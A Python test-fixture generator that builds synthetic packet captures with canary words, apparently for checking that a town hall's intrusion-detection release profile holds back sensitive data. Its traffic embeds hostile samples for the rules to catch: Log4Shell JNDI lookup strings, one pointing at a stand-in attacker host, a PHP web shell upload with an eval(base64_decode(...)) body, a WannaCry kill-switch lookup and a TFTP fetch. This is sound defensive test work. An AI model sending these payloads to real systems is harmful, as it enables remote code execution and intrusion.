# SPDX-FileCopyrightText: Lagewarte contributors
# SPDX-License-Identifier: EUPL-1.2
"""Captures with canaries: words and addresses that must not leave a town hall under the default release profile.

    canaries.py capture OUT.pcap OCTET     the traffic of a town hall 10.OCTET.0.0/16, fd77:OCTET::/32; own rules fire on it
    canaries.py list OCTET...              JSON: what to look for, by kind
    canaries.py foreign IN OUT SECONDS     events of a foreign Suricata, moved to SECONDS before now

Purpose: each kind of thing that the default profile holds back stands where a real client puts it: in payload bodies, URL
queries, cookies, credentials, mail addresses, file names, X-Forwarded-For, DNS answers, and in the packets' addresses.

Never: send anything. Limits: those of rules/captures/packets.py; one town hall per capture.
"""
import base64
import hashlib
import ipaddress
import json
import os
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "rules", "captures"))
import packets  # noqa: E402

# Letters and digits only, so that each word is itself in a URL, a mail address and a header.
WORDS = {
    "payload": "KanarieInhaltQ7x1",
    "url_query": "KanarieAnfrageQ7x2",
    "cookie": "KanarieKeksQ7x3",
    "user_name": "KanarieNutzerQ7x4",
    "password": "KanarieGeheimQ7x5",
    "mail_address": "KanariePostQ7x6",
    "mail_subject": "KanarieBetreffQ7x7",
    "file_name": "KanarieDateiQ7x8",
}
ATTACKER, ATTACKER6 = "203.0.113.66", "2001:db8:66::66"
PARTNER = "198.51.100.80"


def hosts(octet):
    """Inner addresses by what they are used for."""
    return {
        "server": f"10.{octet}.133.10",
        "workstation": f"10.{octet}.201.33",
        "proxied": f"10.{octet}.44.91",  # stands in X-Forwarded-For only
        "answered": f"10.{octet}.87.17",  # stands in a DNS answer only
        "server6": f"fd77:{octet}:1::be:ef10",
    }


def http(method, target, host, body=b"", more=b""):
    """An HTTP request in one segment."""
    head = f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/7.88.1\r\n".encode()
    length = f"Content-Length: {len(body)}\r\n".encode() if body else b""
    return head + more + length + b"\r\n" + body


def dns(name, kind, answer=b""):
    """A question, or an answer with one record."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    question = labels + struct.pack(">HH", kind, 1)
    if not answer:
        return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + question
    record = b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 300, len(answer)) + answer
    return struct.pack(">HHHHHH", 0x4242, 0x8180, 1, 1, 0, 0) + question + record


def sessions(octet, start):
    """(5-tuple, packets) of everything that happens."""
    h, w = hosts(octet), WORDS
    made = []

    def tcp(at, client, cport, server, sport, talk):
        session = packets.TcpSession(start + at, client, cport, server, sport)
        for side, data in talk:
            session.send(side, data)
        made.append(((6, client, cport, server, sport), session.close()))

    ok = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s"
    # 1100401: the lookup in a header; query, cookie, proxy header and Host are the town hall's.
    get = http("GET", f"/antrag?suche={w['url_query']}&seite=2", h["server"],
               more=(f"X-Forwarded-For: {h['proxied']}\r\nCookie: sid={w['cookie']}\r\nReferer: ${{jndi:ldap://203.0.113.66/a}}\r\n").encode())
    tcp(0, ATTACKER, 41001, h["server"], 80, [("c", get), ("s", ok % (17, w["payload"].encode()))])
    # 1100411: an upload to a web shell: code, and a file with a name.
    form = (f"--grenze\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{w['file_name']}.pdf\"\r\n"
            f"Content-Type: application/pdf\r\n\r\n%PDF-1.4 {w['payload']}\r\n--grenze--\r\n").encode()
    body = b"a=eval(base64_decode($_POST[z0]));" + form
    post = http("POST", f"/bilder/logo.php?k={w['url_query']}", h["server"], body, b"Content-Type: multipart/form-data; boundary=grenze\r\n")
    tcp(400_000, ATTACKER, 41002, h["server"], 80, [("c", post), ("s", ok % (2, b"ok"))])
    # 1100704: a password in cleartext.
    basic = base64.b64encode(f"{w['user_name']}:{w['password']}".encode())
    login = http("GET", "/intern/", h["server"], more=b"Authorization: Basic " + basic + b"\r\n")
    tcp(800_000, ATTACKER, 41003, h["server"], 80, [("c", login), ("s", ok % (2, b"ok"))])
    # 1100706 and 1100707: a mail with an attachment, submitted without TLS.
    plain = base64.b64encode(f"\0{w['user_name']}\0{w['password']}".encode())
    mail = (f"From: <{w['mail_address']}@rathaus.example>\r\nTo: <leitung@rathaus.example>\r\nSubject: {w['mail_subject']}\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=g\r\n\r\n--g\r\nContent-Type: text/plain\r\n\r\n{w['payload']}\r\n--g\r\n"
            f"Content-Type: application/octet-stream; name=\"{w['file_name']}.doc\"\r\n"
            f"Content-Disposition: attachment; filename=\"{w['file_name']}.doc\"\r\n\r\nMZabc\r\n--g--\r\n.\r\n").encode()
    tcp(1_200_000, ATTACKER, 41004, h["server"], 25, [
        ("s", b"220 mail.rathaus.example ESMTP\r\n"), ("c", b"EHLO extern.example\r\n"),
        ("s", b"250-mail.rathaus.example\r\n250 AUTH PLAIN LOGIN\r\n"),
        ("c", b"AUTH PLAIN " + plain + b"\r\n"), ("s", b"235 2.7.0 ok\r\n"),
        ("c", f"MAIL FROM:<{w['mail_address']}@rathaus.example>\r\n".encode()), ("s", b"250 ok\r\n"),
        ("c", f"RCPT TO:<{w['mail_address']}2@rathaus.example>\r\n".encode()), ("s", b"250 ok\r\n"),
        ("c", b"DATA\r\n"), ("s", b"354 go on\r\n"), ("c", mail), ("s", b"250 queued\r\n"), ("c", b"QUIT\r\n"), ("s", b"221 bye\r\n")])
    # 1100703: an IMAP login.
    tcp(1_600_000, ATTACKER, 41005, h["server"], 143, [
        ("s", b"* OK ready\r\n"), ("c", f"a1 LOGIN {w['user_name']} {w['password']}\r\n".encode()), ("s", b"a1 OK\r\n")])
    # 1100701: FTP with a file name.
    tcp(2_000_000, ATTACKER, 41006, h["server"], 21, [
        ("s", b"220 ready\r\n"), ("c", f"USER {w['user_name']}\r\n".encode()), ("s", b"331 password\r\n"),
        ("c", f"PASS {w['password']}\r\n".encode()), ("s", b"230 logged in\r\n"),
        ("c", f"RETR {w['file_name']}.xls\r\n".encode()), ("s", b"550 no\r\n")])
    # 1100401 over IPv6.
    get6 = http("GET", f"/?suche={w['url_query']}", f"[{h['server6']}]", more=b"Referer: ${jndi:ldap://x/}\r\n")
    tcp(2_400_000, ATTACKER6, 41007, h["server6"], 80, [("c", get6), ("s", ok % (2, b"ok"))])
    # 1100601: the workstation asks a resolver outside; another name's answer is an inner address.
    wannacry = "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"
    ask = [packets.udp(start + 2_800_000, h["workstation"], 51001, PARTNER, 53, dns(wannacry, 1)),
           packets.udp(start + 2_810_000, PARTNER, 53, h["workstation"], 51001, dns(wannacry, 1, ipaddress.ip_address(h["answered"]).packed))]
    made.append(((17, h["workstation"], 51001, PARTNER, 53), ask))
    # 1100305: a file is fetched from outside.
    tftp = b"\0\1" + f"{w['file_name']}.bin".encode() + b"\0octet\0"
    made.append(((17, h["workstation"], 51002, ATTACKER, 69), [packets.udp(start + 3_000_000, h["workstation"], 51002, ATTACKER, 69, tftp)]))
    return made


def community_id(tuple5):
    """Community ID v1 with seed 0 (github.com/corelight/community-id-spec): whoever knows the outer half can guess the inner."""
    protocol, a, aport, b, bport = tuple5
    a, b = ipaddress.ip_address(a).packed, ipaddress.ip_address(b).packed
    if (a, aport) > (b, bport):
        a, aport, b, bport = b, bport, a, aport
    digest = hashlib.sha1(struct.pack(">H", 0) + a + b + struct.pack(">BBHH", protocol, 0, aport, bport)).digest()
    return "1:" + base64.b64encode(digest).decode()


def wanted(octets):
    """What to look for: {"words": {kind: [..]}, "addresses": {kind: [..]}}."""
    words = {kind: [word] for kind, word in WORDS.items()}
    words["community_id"] = [community_id(t) for o in octets for t, _ in sessions(o, 0)]
    words["basic_credentials"] = [base64.b64encode(f"{WORDS['user_name']}:{WORDS['password']}".encode()).decode()]
    addresses = {}
    for octet in octets:
        for kind, address in hosts(octet).items():
            addresses.setdefault(kind, []).append(address)
    return {"words": words, "addresses": addresses}


def main():
    """Command line."""
    command, arguments = sys.argv[1], sys.argv[2:]
    if command == "capture":
        made = [p for _, part in sessions(int(arguments[1]), 1_772_442_000_000_000) for p in part]
        made.sort(key=lambda p: p.time)
        wrong = packets.wrong_checksums(made)
        if wrong:
            raise ValueError(f"wrong checksum in packet {wrong[0]}")
        packets.write_pcap(arguments[0], made)
    elif command == "list":
        print(json.dumps(wanted([int(o) for o in arguments])))
    elif command == "foreign":
        then = time.time() - float(arguments[2])
        with open(arguments[0], encoding="utf-8") as source, open(arguments[1], "a", encoding="utf-8") as target:
            for number, line in enumerate(source):
                event = json.loads(line)
                at = then + number / 1000
                event["timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(at)) + f".{int(at % 1 * 1e6):06d}+0000"
                target.write(json.dumps(event) + "\n")
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
